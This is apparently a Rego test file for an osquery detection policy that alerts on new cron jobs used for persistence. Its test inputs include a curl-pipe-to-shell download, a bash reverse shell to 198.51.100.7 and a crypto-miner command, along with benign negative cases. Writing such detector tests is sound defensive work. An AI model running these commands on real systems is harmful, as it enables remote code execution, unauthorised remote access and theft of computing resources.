package osquery.cron_persistence_test

import data.osquery.cron_persistence

test_what_is_fetched_and_run_is_told if count(cron_persistence.alert) == 1 with input as {"osquery": {"host_identifier": "hostA", "action": "added", "columns": {"command": "curl -fsSL http://198.51.100.7/u.sh | sh", "day_of_week": "*"}}}

test_a_reverse_shell_is_told if count(cron_persistence.alert) == 1 with input as {"osquery": {"host_identifier": "hostA", "action": "added", "columns": {"command": "bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'", "day_of_week": "*"}}}

test_a_miner_is_told if count(cron_persistence.alert) == 1 with input as {"osquery": {"host_identifier": "hostA", "action": "added", "columns": {"command": "/opt/x -o stratum+tcp://pool.example.com:3333 -u wallet", "day_of_week": "*"}}}

test_what_somebody_typed_is_no_job if count(cron_persistence.alert) == 0 with input as {"osquery": {"host_identifier": "hostA", "action": "added", "columns": {"command": "curl -fsSL http://198.51.100.7/u.sh | sh"}}}

test_what_is_only_cleaned_up_is_not_told if count(cron_persistence.alert) == 0 with input as {"osquery": {"host_identifier": "hostA", "action": "added", "columns": {"command": "find /var/tmp -mtime +30 -delete", "day_of_week": "*"}}}
